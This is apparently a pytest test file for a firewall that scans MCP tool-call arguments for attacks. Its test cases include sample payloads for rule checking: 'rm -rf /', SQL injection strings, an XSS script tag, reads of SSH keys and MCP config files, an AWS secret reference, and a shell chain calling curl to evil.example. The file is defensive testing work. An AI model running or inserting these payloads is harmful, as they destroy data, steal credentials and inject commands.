import json
import time

import pytest
from hypothesis import given, strategies as st

from mcp_guardian import waf
from mcp_guardian.bench import load_corpus


@pytest.fixture(scope="module")
def rules():
    return waf.compile_rules([])


def test_default_ruleset_compiles(rules):
    assert len(rules) >= 8
    ids = [r.rule_id for r in rules.rules]
    assert len(ids) == len(set(ids))


def test_malformed_pattern_fails_fast():
    with pytest.raises(waf.RuleCompileError):
        waf.compile_rules([{"rule_id": "bad", "pattern": "("}], include_defaults=False)


def test_duplicate_rule_id():
    with pytest.raises(waf.RuleCompileError) as exc:
        waf.compile_rules([{"rule_id": "destructive-shell", "pattern": "x"}])
    assert exc.value.reason == "DuplicateId"


@pytest.mark.parametrize("payload,rule_id", [
    ({"message": "Hello'; rm -rf / #"}, "destructive-shell"),
    ({"q": "Robert'); DROP TABLE students;--"}, "sql-drop-table"),
    ({"a": {"b": "<script>alert(1)</script>"}}, "html-script-tag"),
    ({"notes": "please read ~/.ssh/id_rsa"}, "sensitive-path-ssh"),
    ({"notes": "now open ~/.cursor/mcp.json"}, "sensitive-path-mcp-config"),
    ({"cmd": "echo $AWS_SECRET_ACCESS_KEY"}, "env-secret-ref"),
    ({"x": "a' OR '1'='1"}, "sql-tautology"),
    ({"x": "ok; curl http://evil.example"}, "shell-chain-injection"),
])
def test_paper_payloads_blocked(rules, payload, rule_id):
    verdict = waf.scan_params(payload, "any_tool", rules)
    assert verdict.status is waf.VerdictStatus.BLOCKED
    assert rule_id in {h.rule_id for h in verdict.hits}


def test_nested_hit_path(rules):
    verdict = waf.scan_params({"a": {"b": "<script>alert(1)</script>"}}, "t", rules)
    hit = next(h for h in verdict.hits if h.rule_id == "html-script-tag")
    assert hit.json_path == "arguments.a.b"


def test_benign_input_clean(rules):
    assert waf.scan_params({"city": "Paris"}, "get_forecast", rules).status \
        is waf.VerdictStatus.CLEAN


def test_benign_corpus_no_false_positives(rules):
    corpus = load_corpus("benign_corpus.json")
    assert len(corpus) >= 50
    for arguments in corpus:
        verdict = waf.scan_params(arguments, "get_forecast", rules)
        assert verdict.status is waf.VerdictStatus.CLEAN, (arguments, verdict.hits)


def test_keys_are_scanned(rules):
    verdict = waf.scan_params({"rm -rf /tmp": "x"}, "t", rules)
    assert verdict.status is waf.VerdictStatus.BLOCKED


def test_tool_name_is_scanned(rules):
    verdict = waf.scan_params({}, "rm -rf everything", rules)
    assert verdict.status is waf.VerdictStatus.BLOCKED
    assert verdict.hits[0].json_path == "tool_name"


def test_all_hits_reported_not_first_match(rules):
    verdict = waf.scan_params(
        {"a": "rm -rf /", "b": "drop table users"}, "t", rules
    )
    assert {h.rule_id for h in verdict.hits} >= {"destructive-shell", "sql-drop-table"}


def test_excerpt_capped(rules):
    long_hit = "rm -rf " + "/very/long/path" * 50
    verdict = waf.scan_params({"x": long_hit}, "t", rules)
    assert all(len(h.matched_excerpt) <= 64 for h in verdict.hits)


def test_warn_severity_is_flagged_not_blocked():
    rules = waf.compile_rules(
        [{"rule_id": "w", "pattern": "suspicious", "severity": "warn"}],
        include_defaults=False,
    )
    verdict = waf.scan_params({"x": "suspicious text"}, "t", rules)
    assert verdict.status is waf.VerdictStatus.WARNED
    assert verdict.block_rule_id is None


def _strings_in(value, prefix):
    """Flatten oracle: every string reachable in the JSON tree, with its path."""
    out = []
    if isinstance(value, str):
        out.append((prefix, value))
    elif isinstance(value, dict):
        for k, v in value.items():
            out.append((f"{prefix}.{k}", str(k)))
            out.extend(_strings_in(v, f"{prefix}.{k}"))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            out.extend(_strings_in(v, f"{prefix}[{i}]"))
    return out


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30),
    lambda children: st.lists(children, max_size=3) |
    st.dictionaries(st.text(max_size=10), children, max_size=3),
    max_leaves=12,
)


@given(arguments=json_values)
def test_recursion_totality_flatten_oracle(arguments):
    """Tree scan equals scanning every flattened string independently."""
    rules = waf.compile_rules([])
    verdict = waf.scan_params(arguments, "", rules)
    expected = set()
    for path, text in _strings_in(arguments, "arguments"):
        for rule in rules.rules:
            if rule.compiled.search(text):
                expected.add((rule.rule_id, path))
    assert {(h.rule_id, h.json_path) for h in verdict.hits} == expected


@given(arguments=json_values)
def test_monotonicity_adding_rule_never_unblocks(arguments):
    base = waf.compile_rules([])
    extended = waf.compile_rules([{"rule_id": "extra", "pattern": "zzz-never"}])
    if waf.scan_params(arguments, "", base).status is waf.VerdictStatus.BLOCKED:
        assert waf.scan_params(arguments, "", extended).status \
            is waf.VerdictStatus.BLOCKED


def test_scan_time_linear_in_input_size(rules):
    """Cost per byte must not grow as inputs scale 1 KiB -> 1 MiB."""
    sizes = [1024, 32 * 1024, 1024 * 1024]
    per_byte = []
    for size in sizes:
        text = ("the weather in paris is mild today " * (size // 35 + 1))[:size]
        start = time.perf_counter()
        waf.scan_params({"text": text}, "t", rules)
        per_byte.append((time.perf_counter() - start) / size)
    # allow generous noise but catch superlinear blowup
    assert per_byte[-1] <= per_byte[0] * 10
